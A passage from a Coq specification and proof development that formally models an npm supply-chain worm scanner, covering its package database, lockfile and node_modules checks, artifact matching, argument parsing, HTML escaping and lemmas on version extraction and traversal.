  Forall (fun entry => exists s, snd entry = JString s) props.

Definition sectionShape (section : value) : Prop :=
  match section with
  | Some (JObject props) => stringValued props
  | other => truthy other = false
  end.

Definition manifestShape (parsed : json) : Prop :=
  exists props,
    parsed = JObject props
    /\ (forall dep, In dep DEPENDENCY_TYPES ->
                    sectionShape (lookup props dep))
    /\ sectionShape (lookup props "scripts").

(** ** Renderings of a list of database rows *)

(** [lacks ch s]: the character [ch] does not occur in [s]. *)
Definition lacks (ch : ascii) (s : string) : bool :=
  allChars (fun a => negb (Ascii.eqb a ch)) s.

Definition PIPE : ascii := "|"%char.
Definition TABCHAR : ascii := ascii_of_nat 9.
Definition LFCHAR : ascii := ascii_of_nat 10.

(** A cell that both formats can carry: no [|], tab or line feed. *)
Definition plainCell (c : string) : bool :=
  lacks PIPE c && lacks TABCHAR c && lacks LFCHAR c.

(** A name or a version: a plain cell that is not empty and neither
    begins nor ends with whitespace. *)
Definition cleanCell (c : string) : bool :=
  plainCell c && negb (isEmpty c) && negb (headChar isWhiteSpace c)
  && String.eqb (trimEnd c) c.

(** A row: the name, the version and the further columns. *)
Record Row : Type := mkRow
  { r_name : string; r_version : string; r_extra : list string }.

(** A row that both readers take as it stands: a clean name and
    version, plain further cells, and nothing that the table reader takes
    for a header, that is, a name that does not contain [Package] and
    later cells that do not begin with it. *)
Definition cleanRow (r : Row) : bool :=
  cleanCell (r_name r) && cleanCell (r_version r)
  && forallb plainCell (r_extra r)
  && negb (includes (r_name r) "Package")
  && forallb (fun c => negb (startsWith c "Package"))
       (r_version r :: r_extra r).

Fixpoint tableCells (cells : list string) : string :=
  match cells with
  | [] => EmptyString
  | c :: rest => " " ++ c ++ " " ++ "|" ++ tableCells rest
  end.

(** [| name | version | extra ... |] *)
Definition tableRow (r : Row) : string :=
  "|" ++ tableCells (r_name r :: r_version r :: r_extra r).

Fixpoint tabbed (cells : list string) : string :=
  match cells with
  | [] => EmptyString
  | c :: rest => TAB ++ c ++ tabbed rest
  end.

(** [name<TAB>version<TAB>extra ...] *)
Definition tsvRow (r : Row) : string :=
  r_name r ++ tabbed (r_version r :: r_extra r).

(** A Markdown table: a header line, a separator line, and one line per
    row. *)
Definition renderTable (header separator : string) (rows : list Row)
  : string :=
  join LF (header :: separator :: map tableRow rows).

Definition renderTsv (rows : list Row) : string :=
  join LF (map tsvRow rows).

(** The map obtained by adding the rows one after the other. *)
Definition databaseOf (rows : list Row) : IOCDatabase :=
  fold_left (fun db r => addPackage db (r_name r) (r_version r)) rows [].

(** [contains db name version]: [db.has(name)] and
    [db.get(name).has(version)]. *)
Definition contains (db : IOCDatabase) (name version : string) : Prop :=
  Map_has db name = true
  /\ exists versions,
       Map_get db name = Some versions /\ Set_has versions version = true.

End Spec.
Import Spec.

(** ** The earlier single-file scanner *)
Module Legacy.

(** The body of the [forEach] over the lines in the first
    [loadInfectedPackages], which reads tab-separated lines only; its
    three statements on the map are those of [addPackage]. *)
Definition loadLine (packages : IOCDatabase) (line : string) : IOCDatabase :=
  let parts := split (trim line) TAB in
  if (2 <=? List.length parts)%nat then
    let name := trim (nth 0 parts "") in
    let version := trim (nth 1 parts "") in
    if nonEmpty name && nonEmpty version
    then addPackage packages name version
    else packages
  else packages.

Definition loadContent (content : string) : IOCDatabase :=
  fold_left loadLine (split content LF) [].

(** [path.basename(p)] for a path that does not end with a slash. *)
Definition basename (p : string) : string := lastOf (split p "/").

(** The loop over [MALICIOUS_ARTIFACTS] of the first
    [findMaliciousArtifacts], whose list of artifacts is the one of
    [lib/config.js]: a suffix of the path or the basename of the
    artifact matches. *)
Definition matchArtifacts (artifacts : list string)
    (fullPath name : string) : list ArtifactHit :=
  flat_map
    (fun artifact =>
       if endsWith fullPath artifact || String.eqb name (basename artifact)
       then [mkHit artifact fullPath]
       else [])
    artifacts.

Definition testFile (fullPath name : string) : list ArtifactHit :=
  (matchArtifacts MALICIOUS_ARTIFACTS fullPath name
   ++ matchWorkflow fullPath name)%list.

Section WithPath.
Variable path_join : string -> string -> string.

Fixpoint findMaliciousArtifacts_entry (dir : string) (entry : Dirent)
  : list ArtifactHit :=
  let fullPath := path_join dir (d_name entry) in
  if String.eqb (d_name entry) "node_modules" then []
  else
    match entry with
    | Directory _ listing =>
        match listing with
        | Some entries =>
            flat_map (findMaliciousArtifacts_entry fullPath) entries
        | None => []
        end
    | File name _ => testFile fullPath name
    end.

(** The first [findMaliciousArtifacts(dir)], for the listing [root] of
    [dir]. *)
Definition findMaliciousArtifacts (dir : string)
    (root : option (list Dirent)) : list ArtifactHit :=
  match root with
  | Some entries => flat_map (findMaliciousArtifacts_entry dir) entries
  | None => []
  end.

End WithPath.

End Legacy.

(** ** Further definitions used to state properties *)
Module Facts.

(** The invariant of a database: distinct names, none of them empty, each
    with a set of versions that is not empty, has no duplicate and no
    empty version. *)
Definition entryInvariant (entry : string * VersionSet) : Prop :=
  fst entry <> "" /\ snd entry <> [] /\ NoDup (snd entry)
  /\ Forall (fun v => v <> "") (snd entry).

Definition databaseInvariant (db : IOCDatabase) : Prop :=
  NoDup (map fst db) /\ Forall entryInvariant db.

(** A line that is neither a header or separator line nor has a tab. *)
Definition inertLine (line : string) : bool :=
  negb (includes line "| Package" || includes line "|---")
  && negb (includes line TAB).

(** A name that [findPackageFiles] passes over: it starts with a dot and
    is not [.github]. *)
Definition hiddenName (name : string) : bool :=
  startsWith name "." && negb (String.eqb name ".github").

Section Recording.
Variable path_join : string -> string -> string.

(** [Recorded currentDir entries candidate]: what [findPackageFiles]
    records below the listing [entries] of [currentDir]: an existing
    entry called [node_modules], a file [package.json] or
    [package-lock.json], at this level or below directories that can be
    read and are neither called [node_modules] nor hidden. *)
Inductive Recorded : string -> list Dirent -> Candidate -> Prop :=
| recorded_node_modules currentDir entries entry :
    In entry entries ->
    d_name entry = "node_modules" ->
    d_exists entry = true ->
    Recorded currentDir entries
      (mkCandidate node_modules (path_join currentDir "node_modules"))
| recorded_manifest currentDir entries present :
    In (File "package.json" present) entries ->
    Recorded currentDir entries
      (mkCandidate package_json (path_join currentDir "package.json"))
| recorded_lockfile currentDir entries present :
    In (File "package-lock.json" present) entries ->
    Recorded currentDir entries
      (mkCandidate package_lock_json
         (path_join currentDir "package-lock.json"))
| recorded_below currentDir entries dir sub candidate :
    In (Directory dir (Some sub)) entries ->
    dir <> "node_modules" ->
    hiddenName dir = false ->
    Recorded (path_join currentDir dir) sub candidate ->
    Recorded currentDir entries candidate.
End Recording.

(** What the loop over [SUSPICIOUS_SCRIPTS] adds for one script name in a
    call of [checkPackageJson] that returns. *)
Definition scriptFindings (filePath : string) (scripts : value)
    (name : string) : list Finding :=
  match getProp scripts name with
  | Ok (Some scriptContent) =>
      if truthy (Some scriptContent) then
        match isSuspicious scriptContent with
        | Ok true => [suspiciousScript name scriptContent filePath]
        | _ => []
        end
      else []
  | _ => []
  end.

(** What [checkLocked] adds for one entry of a lockfile when it
    returns. *)
Definition lockedFindings (filePath : string)
    (infectedPackages : IOCDatabase) (name : string) (info : json)
  : list Finding :=
  match Map_get infectedPackages name, info with
  | Some versions, JObject props =>
      match lookup props "version" with
      | Some (JString v) =>
          if negb (isEmpty v) && Set_has versions v
          then [infectedLockedPackage name v filePath]
          else []
      | _ => []
      end
  | _, _ => []
  end.

(** The entries that [Object.entries] lists for a value other than
    [null]. *)
Definition entriesOf (v : json) : list (string * json) :=
  match Object_entries (Some v) with
  | Ok entries => entries
  | Throw _ => []
  end.

(** [info.dependencies] where it is truthy. *)
Definition nestedDependencies (info : json) : result (option json) :=
  match info with
  | JNull => Throw "Cannot read properties of null"
  | JObject props =>
      match lookup props "dependencies" with
      | Some d => Ok (if truthy (Some d) then Some d else None)
      | None => Ok None
      end
  | _ => Ok None
  end.

Section Lockfile.
Variable filePath : string.
Variable infectedPackages : IOCDatabase.

(** The body of the loop of [checkDependenciesV1] for one entry. *)
Definition v1Step (entry : string * json) (findings : list Finding)
  : result (list Finding) :=
  findings <- checkLocked filePath infectedPackages (fst entry) (snd entry)
                findings ;;
  nested <- nestedDependencies (snd entry) ;;
  match nested with
  | Some d => checkDependenciesV1 d filePath infectedPackages findings
  | None => Ok findings
  end.
End Lockfile.

(** [LockedAt deps name info]: the nested [dependencies] mapping [deps]
    of a version 1 lockfile has the entry [name] with the value [info],
    at the top or at any depth below. *)
Inductive LockedAt : json -> string -> json -> Prop :=
| locked_here deps name info :
    In (name, info) (entriesOf deps) -> LockedAt deps name info
| locked_below deps parent parentInfo nested name info :
    In (parent, parentInfo) (entriesOf deps) ->
    nestedDependencies parentInfo = Ok (Some nested) ->
    LockedAt nested name info ->
    LockedAt deps name info.

Fixpoint json_size (j : json) : nat :=
  match j with
  | JArray items =>
      S ((fix total (l : list json) : nat :=
            match l with
            | [] => 0
            | x :: rest => json_size x + total rest
            end) items)
  | JObject props =>
      S ((fix total (l : list (string * json)) : nat :=
            match l with
            | [] => 0
            | (_, v) :: rest => json_size v + total rest
            end) props)
  | _ => 1
  end.

(** [info.version] where it is a non-empty string. *)
Definition lockedVersion (info : json) : option string :=
  match info with
  | JObject props =>
      match lookup props "version" with
      | Some (JString v) => if isEmpty v then None else Some v
      | _ => None
      end
  | _ => None
  end.

(** The entries of [content.packages || {}]. *)
Definition lockedPackages (parsed : json) : list (string * json) :=
  match getProp (Some parsed) "packages" with
  | Ok (Some declared) =>
      if truthy (Some declared) then entriesOf declared else []
  | Ok None => []
  | Throw _ => []
  end.

(** What the loop over [Object.entries(packages)] adds for one entry
    when it returns. *)
Definition lockEntryFindings (filePath : string)
    (infectedPackages : IOCDatabase) (entry : string * json)
  : list Finding :=
  if isEmpty (fst entry) then []
  else lockedFindings filePath infectedPackages
         (lockedPackageName (fst entry)) (snd entry).

Section Installed.
Variable readFileSync : string -> result string.
Variable JSON_parse : string -> result json.
Variable existsSync : string -> bool.
Variable path_join : string -> string -> string.
Variable readdirSync : string -> result (list (string * bool)).
Variable infectedPackages : IOCDatabase.
Variable options : Options.

(** [installedReport pkgName pkgPath f]: [checkInstalledPackage] pushes
    [f] for the package [pkgName] installed at [pkgPath]. *)
Definition installedReport (pkgName pkgPath : string) (f : Finding) : Prop :=
  let pkgJsonPath := path_join pkgPath "package.json" in
  Map_has infectedPackages pkgName = true
  /\ existsSync pkgJsonPath = true
  /\ ((exists pkgJson v,
         readJson readFileSync JSON_parse pkgJsonPath = Ok pkgJson
         /\ getProp (Some pkgJson) "version" = Ok (Some (JString v))
         /\ contains infectedPackages pkgName v
         /\ f = installedInfectedPackage pkgName v pkgPath)
      \/ (exists msg,
            readJson readFileSync JSON_parse pkgJsonPath = Throw msg
            /\ verbose options = true
            /\ f = parseError_path pkgJsonPath msg)).

(** [PackageDir nodeModulesPath pkgName pkgPath]: [checkNodeModules]
    visits the directory [pkgPath] as the package [pkgName], directly
    below [node_modules] or below a scope directory. *)
Inductive PackageDir (nodeModulesPath : string) : string -> string -> Prop :=
| direct_package entries name :
    readdirSync nodeModulesPath = Ok entries ->
    In (name, true) entries ->
    startsWith name "@" = false ->
    PackageDir nodeModulesPath name (path_join nodeModulesPath name)
| scoped_package entries scope scopedEntries name :
    readdirSync nodeModulesPath = Ok entries ->
    In (scope, true) entries ->
    startsWith scope "@" = true ->
    readdirSync (path_join nodeModulesPath scope) = Ok scopedEntries ->
    In (name, true) scopedEntries ->
    PackageDir nodeModulesPath (scope ++ "/" ++ name)
      (path_join (path_join nodeModulesPath scope) name).

End Installed.

End Facts.
Import Facts.

(** ** worm-buster.js: the command line and the loop over the directories *)
Module WormBuster.

(** [options.reportFormats] *)
Record ReportFormats : Type := mkReportFormats
  { format_json : bool; format_markdown : bool; format_html : bool }.

(** The options object of [parseArgs]; [options.json] is [json_output]. *)
Record CliOptions : Type := mkCliOptions
  { help : bool;
    verbose : bool;
    json_output : bool;
    scanAll : bool;
    checkProcesses : bool;
    checkCredentials : bool;
    reportFormats : ReportFormats;
    outputDir : string;
    directories : list string }.

Definition set_help (o : CliOptions) : CliOptions :=
  mkCliOptions true (verbose o) (json_output o) (scanAll o)
    (checkProcesses o) (checkCredentials o) (reportFormats o) (outputDir o)
    (directories o).

Definition set_verbose (o : CliOptions) : CliOptions :=
  mkCliOptions (help o) true (json_output o) (scanAll o) (checkProcesses o)
    (checkCredentials o) (reportFormats o) (outputDir o) (directories o).

Definition set_json (o : CliOptions) : CliOptions :=
  mkCliOptions (help o) (verbose o) true (scanAll o) (checkProcesses o)
    (checkCredentials o) (reportFormats o) (outputDir o) (directories o).

Definition set_scanAll (o : CliOptions) : CliOptions :=
  mkCliOptions (help o) (verbose o) (json_output o) true (checkProcesses o)
    (checkCredentials o) (reportFormats o) (outputDir o) (directories o).

Definition set_checkProcesses (o : CliOptions) : CliOptions :=
  mkCliOptions (help o) (verbose o) (json_output o) (scanAll o) true
    (checkCredentials o) (reportFormats o) (outputDir o) (directories o).

Definition set_checkCredentials (o : CliOptions) : CliOptions :=
  mkCliOptions (help o) (verbose o) (json_output o) (scanAll o)
    (checkProcesses o) true (reportFormats o) (outputDir o) (directories o).

Definition set_markdown (o : CliOptions) : CliOptions :=
  mkCliOptions (help o) (verbose o) (json_output o) (scanAll o)
    (checkProcesses o) (checkCredentials o)
    (mkReportFormats (format_json (reportFormats o)) true
       (format_html (reportFormats o)))
    (outputDir o) (directories o).

Definition set_html (o : CliOptions) : CliOptions :=
  mkCliOptions (help o) (verbose o) (json_output o) (scanAll o)
    (checkProcesses o) (checkCredentials o)
    (mkReportFormats (format_json (reportFormats o))
       (format_markdown (reportFormats o)) true)
    (outputDir o) (directories o).

Definition set_outputDir (o : CliOptions) (dir : string) : CliOptions :=
  mkCliOptions (help o) (verbose o) (json_output o) (scanAll o)
    (checkProcesses o) (checkCredentials o) (reportFormats o) dir
    (directories o).

Definition push_directory (o : CliOptions) (dir : string) : CliOptions :=
  mkCliOptions (help o) (verbose o) (json_output o) (scanAll o)
    (checkProcesses o) (checkCredentials o) (reportFormats o) (outputDir o)
    (directories o ++ [dir])%list.

Definition COMMON_PROJECT_DIRS : list string :=
  [ "code"; "projects"; "workspace"; "workspaces"; "dev"; "development";
    "repos"; "github"; "Documents/code"; "Documents/projects" ].

(** [given flags args]: some argument is one of [flags]. *)
Definition given (flags args : list string) : bool :=
  existsb (fun arg => existsb (String.eqb arg) flags) args.

Section CommandLine.
(** [path.resolve], [process.cwd()], [os.homedir()], [fs.existsSync] and
    [path.join] *)
Variable path_resolve : string -> string.
Variable cwd : string.
Variable homeDir : string.
Variable existsSync : string -> bool.
Variable path_join : string -> string -> string.

Definition defaults : CliOptions :=
  mkCliOptions false false false false false false
    (mkReportFormats true true true) cwd [].

(** The [for] loop and [switch] of [parseArgs] over the arguments from
    index [i] on; [args[++i]] consumes the argument after [-o]. *)
Fixpoint parseLoop (args : list string) (options : CliOptions)
  : CliOptions :=
  match args with
  | [] => options
  | arg :: rest =>
      if String.eqb arg "-h" || String.eqb arg "--help"
      then parseLoop rest (set_help options)
      else if String.eqb arg "-v" || String.eqb arg "--verbose"
      then parseLoop rest (set_verbose options)
      else if String.eqb arg "--json"
      then parseLoop rest (set_json options)
      else if String.eqb arg "--all"
      then parseLoop rest (set_scanAll options)
      else if String.eqb arg "--processes"
      then parseLoop rest (set_checkProcesses options)
      else if String.eqb arg "--credentials"
      then parseLoop rest (set_checkCredentials options)
      else if String.eqb arg "--full"
      then parseLoop rest
             (set_checkCredentials (set_checkProcesses options))
      else if String.eqb arg "--report" || String.eqb arg "-r"
      then parseLoop rest (set_html (set_markdown options))
      else if String.eqb arg "--markdown" || String.eqb arg "--md"
      then parseLoop rest (set_markdown options)
      else if String.eqb arg "--html"
      then parseLoop rest (set_html options)
      else if String.eqb arg "--output" || String.eqb arg "-o"
      then
        match rest with
        | next :: after =>
            if negb (isEmpty next) && negb (startsWith next "-")
            then parseLoop after (set_outputDir options (path_resolve next))
            else parseLoop rest options
        | [] => parseLoop rest options
        end
      else if negb (startsWith arg "-")
      then parseLoop rest (push_directory options (path_resolve arg))
      else parseLoop rest options
  end.

(** [parseArgs(argv)]; [argv.slice(2)] drops the interpreter and the
    script. *)
Definition parseArgs (argv : list string) : CliOptions :=
  parseLoop (skipn 2 argv) defaults.

Definition getDirectoriesToScan (options : CliOptions) : list string :=
  if (0 <? List.length (directories options))%nat
  then directories options
  else if scanAll options then
    let found :=
      flat_map
        (fun dir =>
           let fullPath := path_join homeDir dir in
           if existsSync fullPath then [fullPath] else [])
        COMMON_PROJECT_DIRS in
    if (0 <? List.length found)%nat then found else [homeDir]
  else [cwd].

End CommandLine.

(** [findings = { critical, warning, info }] *)
Record Buckets : Type := mkBuckets
  { critical : list Finding;
    warning : list Finding;
    info : list Finding }.

(** The [if]/[else if]/[else] on [finding.severity] that follows each
    analyzer call. *)
Definition pushFinding (findings : Buckets) (finding : Finding) : Buckets :=
  match severity finding with
  | CRITICAL =>
      mkBuckets (critical findings ++ [finding])%list (warning findings)
        (info findings)
  | WARNING =>
      mkBuckets (critical findings) (warning findings ++ [finding])%list
        (info findings)
  | INFO =>
      mkBuckets (critical findings) (warning findings)
        (info findings ++ [finding])%list
  end.

Definition pushArtifact (findings : Buckets) (hit : ArtifactHit) : Buckets :=
  mkBuckets (critical findings ++ [maliciousArtifact hit])%list
    (warning findings) (info findings).

Definition hasType (t : CandidateType) (f : Candidate) : bool :=
  match t, c_type f with
  | node_modules, node_modules => true
  | package_json, package_json => true
  | package_lock_json, package_lock_json => true
  | _, _ => false
  end.

Section Scan.
Variable readFileSync : string -> result string.
Variable JSON_parse : string -> result json.
Variable existsSync : string -> bool.
Variable path_join : string -> string -> string.
Variable readdirSync : string -> result (list (string * bool)).
(** The tree that the scanner's [readdirSync] calls unfold below a
    scanned directory, [None] when reading the directory throws. *)
Variable listing : string -> option (list Dirent).
Variable infectedPackages : IOCDatabase.
Variable options : CliOptions.

(** The analyzers read [options.verbose] only. *)
Definition analyzerOptions : Options := mkOptions (verbose options).

(** The analyzer that [scan] runs on a candidate of each type. *)
Definition analyzerFor (f : Candidate) : result (list Finding) :=
  match c_type f with
  | package_json =>
      checkPackageJson readFileSync JSON_parse (c_path f) infectedPackages
        analyzerOptions
  | package_lock_json =>
      checkPackageLock readFileSync JSON_parse (c_path f) infectedPackages
        analyzerOptions
  | node_modules =>
      checkNodeModules readFileSync JSON_parse existsSync path_join
        readdirSync (c_path f) infectedPackages analyzerOptions
  end.

(** One of the three loops over the candidates of a type: the analyzer
    call and the loop over its findings. *)
Definition analyze (files : list Candidate) (findings : Buckets)
  : result Buckets :=
  forEach files
    (fun f findings =>
       found <- analyzerFor f ;;
       Ok (fold_left pushFinding found findings))
    findings.

(** The body of the loop of [scan] over the directories. *)
Definition scanDirectory (dir : string) (findings : Buckets)
  : result Buckets :=
  if negb (existsSync dir) then Ok findings
  else
    let packageFiles := findPackageFiles path_join dir (listing dir) in
    let packageJsonFiles := filter (hasType package_json) packageFiles in
    let lockFiles := filter (hasType package_lock_json) packageFiles in
    let nodeModulesDirs := filter (hasType node_modules) packageFiles in
    findings <- analyze packageJsonFiles findings ;;
    findings <- analyze lockFiles findings ;;
    findings <- analyze nodeModulesDirs findings ;;
    let artifacts := findMaliciousArtifacts path_join dir (listing dir) in
    Ok (fold_left pushArtifact artifacts findings).

(** The loop of [scan] over [getDirectoriesToScan(options)], from the
    empty findings; the optional process and credential checks follow
    it. *)
Definition scanDirectories (dirs : list string) : result Buckets :=
  forEach dirs scanDirectory (mkBuckets [] [] []).

(** [found dir s f]: the pass over the existing directory [dir] pushes
    the finding [f] onto the list of severity [s]. *)
Definition found (dir : string) (s : Severity) (f : Finding) : Prop :=
  existsSync dir = true
  /\ ((exists c findings,
         In c (findPackageFiles path_join dir (listing dir))
         /\ analyzerFor c = Ok findings
         /\ In f findings /\ severity f = s)
      \/ (s = CRITICAL
          /\ In f (artifactFindings path_join dir (listing dir)))).

End Scan.

(** The bucket that [pushFinding] chooses. *)
Definition bucket (s : Severity) (findings : Buckets) : list Finding :=
  match s with
  | CRITICAL => critical findings
  | WARNING => warning findings
  | INFO => info findings
  end.

(** The types and severities that the analyzers and the artifact pass
    give to a finding; the two error types need [verbose]. *)
Definition expected (verbose : bool) (f : Finding) : Prop :=
  match type f, severity f with
  | INFECTED_PACKAGE, CRITICAL => True
  | INFECTED_LOCKED_PACKAGE, CRITICAL => True
  | INSTALLED_INFECTED_PACKAGE, CRITICAL => True
  | MALICIOUS_ARTIFACT, CRITICAL => True
  | KNOWN_TARGET, WARNING => True
  | SUSPICIOUS_SCRIPT, WARNING => True
  | PARSE_ERROR, INFO => verbose = true
  | READ_ERROR, INFO => verbose = true
  | _, _ => False
  end.

End WormBuster.

(** ** lib/reporter.js: escaping *)
Module Reporter.

Definition QUOTE : ascii := "034"%char.

(** [s.replace(/c/g, replacement)] for a one-character pattern and a
    replacement without [$]. *)
Fixpoint replaceAll (c : ascii) (replacement : string) (s : string)
  : string :=
  match s with
  | EmptyString => EmptyString
  | String a rest =>
      if Ascii.eqb a c then replacement ++ replaceAll c replacement rest
      else String a (replaceAll c replacement rest)
  end.

(** [escapeHtml(str)] for a string; any other value is returned as it
    is. *)
Definition escapeHtml (str : string) : string :=
  replaceAll QUOTE "&quot;"
    (replaceAll ">" "&gt;"
       (replaceAll "<" "&lt;" (replaceAll "&" "&amp;" str))).

(** The entity or the character that one character becomes. *)
Definition escapeChar (a : ascii) : string :=
  if Ascii.eqb a "&" then "&amp;"
  else if Ascii.eqb a "<" then "&lt;"
  else if Ascii.eqb a ">" then "&gt;"
  else if Ascii.eqb a QUOTE then "&quot;"
  else String a EmptyString.

Definition special (a : ascii) : bool :=
  Ascii.eqb a "&" || Ascii.eqb a "<" || Ascii.eqb a ">" || Ascii.eqb a QUOTE.

End Reporter.

(** * Properties *)

(** ** Version reduction *)

Lemma startsWith_empty (s : string) : startsWith s "" = true.
Proof. now destruct s. Qed.

Lemma split_from_head (c : ascii) (s : string) :
  nth 0 (split_from (String c "") 0 s) "" = firstTokenBy (Ascii.eqb c) s.
Proof.
  induction s as [|a s IH]; [reflexivity|].
  cbn [split_from startsWith firstTokenBy].
  rewrite startsWith_empty, andb_true_r, (Ascii.eqb_sym a c).
  destruct (Ascii.eqb c a); [reflexivity|].
  destruct (split_from (String c "") 0 s) as [|piece pieces];
    cbn in IH |- *; now rewrite <- IH.
Qed.

Lemma extractVersion_firstToken (s : string) :
  extractVersion s = firstTokenBy (Ascii.eqb " ") (stripLeadingOperators s).
Proof. apply split_from_head. Qed.

Lemma firstTokenBy_idem (d : ascii -> bool) (s : string) :
  firstTokenBy d (firstTokenBy d s) = firstTokenBy d s.
Proof.
  induction s as [|a s IH]; [reflexivity|]; cbn.
  destruct (d a) eqn:E; [reflexivity|]; cbn.
  now rewrite E, IH.
Qed.

Lemma stripLeadingOperators_head (s : string) :
  headChar isRangeOperator (stripLeadingOperators s) = false.
Proof.
  induction s as [|a s IH]; [reflexivity|]; cbn.
  destruct (isRangeOperator a) eqn:E; [exact IH|]; cbn; exact E.
Qed.

Lemma stripLeadingOperators_fixed (s : string) :
  headChar isRangeOperator s = false -> stripLeadingOperators s = s.
Proof. destruct s as [|a s]; cbn; [reflexivity|]; now intros ->. Qed.

Lemma firstTokenBy_head (d p : ascii -> bool) (s : string) :
  headChar p s = false -> headChar p (firstTokenBy d s) = false.
Proof.
  destruct s as [|a s]; cbn; [reflexivity|].
  now destruct (d a).
Qed.

Lemma stripLeadingOperators_split (s : string) :
  exists ops,
    s = ops ++ stripLeadingOperators s /\ allChars isRangeOperator ops = true.
Proof.
  induction s as [|a s [ops [Hs Hops]]].
  - now exists "".
  - cbn. destruct (isRangeOperator a) eqn:E.
    + exists (String a ops); cbn. rewrite E, Hops. now rewrite <- Hs.
    + now exists "".
Qed.

(** C3, counterexample: a tab is whitespace, yet [extractVersion] does not
    stop at it, so on [1.0.0<TAB><2.0.0] it does not return the first
    whitespace-delimited token [1.0.0]. *)
Lemma extractVersion_tab_not_delimiter :
  extractVersion ("1.0.0" ++ TAB ++ "<2.0.0") = "1.0.0" ++ TAB ++ "<2.0.0"
  /\ reduceVersionSpec ("1.0.0" ++ TAB ++ "<2.0.0") = "1.0.0"
  /\ extractVersion ("1.0.0" ++ TAB ++ "<2.0.0")
     <> reduceVersionSpec ("1.0.0" ++ TAB ++ "<2.0.0").
Proof. repeat split; try reflexivity. discriminate. Qed.

(** C3, amended: [extractVersion] is idempotent; it removes exactly the
    leading run of the characters [^ ~ > = <] and returns what precedes
    the first space character (U+0020, the only delimiter) of the rest;
    and it maps [^1.2.3], [~1.2.3], [>=1.2.3] and [1.2.3] to [1.2.3] and
    [>=1.0.0 <2.0.0] to [1.0.0]. *)
Theorem extractVersion_reduction :
  (forall s, extractVersion (extractVersion s) = extractVersion s)
  /\ (forall s, exists ops,
         s = ops ++ stripLeadingOperators s
         /\ allChars isRangeOperator ops = true
         /\ headChar isRangeOperator (stripLeadingOperators s) = false
         /\ extractVersion s
            = firstTokenBy (Ascii.eqb " ") (stripLeadingOperators s))
  /\ extractVersion "^1.2.3" = "1.2.3"
  /\ extractVersion "~1.2.3" = "1.2.3"
  /\ extractVersion ">=1.2.3" = "1.2.3"
  /\ extractVersion "1.2.3" = "1.2.3"
  /\ extractVersion ">=1.0.0 <2.0.0" = "1.0.0".
Proof.
  split; [|split; [|repeat split]].
  - intros s. rewrite !extractVersion_firstToken.
    rewrite stripLeadingOperators_fixed.
    + apply firstTokenBy_idem.
    + apply firstTokenBy_head, stripLeadingOperators_head.
  - intros s. destruct (stripLeadingOperators_split s) as [ops [Hs Hops]].
    exists ops. repeat split; auto using stripLeadingOperators_head,
      extractVersion_firstToken.
Qed.

(** ** Traversals *)

Lemma Dirent_forall_ind (P : Dirent -> Prop) :
  (forall name present, P (File name present)) ->
  (forall name, P (Directory name None)) ->
  (forall name entries, Forall P entries -> P (Directory name (Some entries))) ->
  forall entry, P entry.
Proof.
  intros HF HN HD.
  fix IH 1. intros [name present | name [entries|]].
  - apply HF.
  - apply HD. induction entries as [|e entries IHl]; constructor.
    + apply IH.
    + exact IHl.
  - apply HN.
Qed.

Lemma In_matchArtifacts (artifacts : list string) (fullPath name : string)
    (h : ArtifactHit) :
  In h (matchArtifacts artifacts fullPath name) <->
  exists a,
    In a artifacts /\ h = mkHit a fullPath
    /\ (if includes a "/" then endsWith fullPath a else String.eqb name a)
       = true.
Proof.
  unfold matchArtifacts. rewrite in_flat_map. split.
  - intros [a [Ha Hh]]. exists a.
    destruct (if includes a "/" then endsWith fullPath a else (name =? a)%string);
      cbn in Hh; [|contradiction].
    destruct Hh as [<-|[]]. auto.
  - intros [a [Ha [-> Hm]]]. exists a. rewrite Hm. cbn. auto.
Qed.

Lemma In_matchWorkflow (fullPath name : string) (h : ArtifactHit) :
  In h (matchWorkflow fullPath name) ->
  h = mkHit "suspicious_workflow" fullPath.
Proof.
  unfold matchWorkflow.
  destruct (includes fullPath ".github/workflows/"
            && SUSPICIOUS_WORKFLOW_PATTERN_test name); cbn; intuition.
Qed.

Lemma testFile_path (fullPath name : string) (h : ArtifactHit) :
  In h (testFile fullPath name) -> a_path h = fullPath.
Proof.
  unfold testFile. rewrite in_app_iff, In_matchArtifacts.
  intros [[a [_ [-> _]]]|H]; [reflexivity|].
  apply In_matchWorkflow in H. now subst.
Qed.

Lemma not_suspicious_workflow (a : string) :
  In a MALICIOUS_ARTIFACTS -> a <> "suspicious_workflow".
Proof.
  unfold MALICIOUS_ARTIFACTS. cbn.
  intros H; repeat (destruct H as [<-|H]; [discriminate|]). contradiction.
Qed.

(** A basename rule hits a file exactly when the names are equal. *)
Lemma testFile_basename (a fullPath name : string) :
  In a MALICIOUS_ARTIFACTS -> includes a "/" = false ->
  (In (mkHit a fullPath) (testFile fullPath name) <-> name = a).
Proof.
  intros Ha Hb. unfold testFile. rewrite in_app_iff, In_matchArtifacts. split.
  - intros [[a' [_ [E Hm]]]|H].
    + injection E as <-. rewrite Hb in Hm. now apply String.eqb_eq.
    + apply In_matchWorkflow in H. injection H as H.
      now apply not_suspicious_workflow in Ha.
  - intros ->. left. exists a. rewrite Hb, String.eqb_refl. auto.
Qed.

Section Traversal.
Variable path_join : string -> string -> string.

Let artifactsEntry := findMaliciousArtifacts_entry path_join.

Lemma artifacts_entry_node_modules (currentDir : string) (entry : Dirent) :
  d_name entry = "node_modules" -> artifactsEntry currentDir entry = [].
Proof.
  intros H. unfold artifactsEntry.
  destruct entry; cbn in H |- *; now rewrite H.
Qed.

Lemma artifacts_entry_file (currentDir name : string) (present : bool) :
  name <> "node_modules" ->
  artifactsEntry currentDir (File name present)
  = testFile (path_join currentDir name) name.
Proof.
  intros H. apply String.eqb_neq in H. unfold artifactsEntry. cbn.
  now rewrite H.
Qed.

Lemma artifacts_entry_directory (currentDir name : string)
    (listing : option (list Dirent)) :
  name <> "node_modules" ->
  artifactsEntry currentDir (Directory name listing)
  = findMaliciousArtifacts_scan path_join (path_join currentDir name) listing.
Proof.
  intros H. apply String.eqb_neq in H. unfold artifactsEntry. cbn.
  now rewrite H.
Qed.

Lemma ScannedFile_incl (currentDir : string) (entries entries' : list Dirent)
    (fullPath name : string) :
  incl entries entries' ->
  ScannedFile path_join currentDir entries fullPath name ->
  ScannedFile path_join currentDir entries' fullPath name.
Proof.
  intros Hincl Hs.
  destruct Hs as [currentDir entries name present Hin Hn
                 | currentDir entries dir sub fullPath name Hin Hn Hs].
  - apply scanned_here with (present := present); auto.
  - apply scanned_below with (dir := dir) (sub := sub); auto.
Qed.

(** Every hit comes from a scanned file. *)
Lemma artifacts_entry_sound (entry : Dirent) :
  forall currentDir h,
    In h (artifactsEntry currentDir entry) ->
    exists name,
      ScannedFile path_join currentDir [entry] (a_path h) name
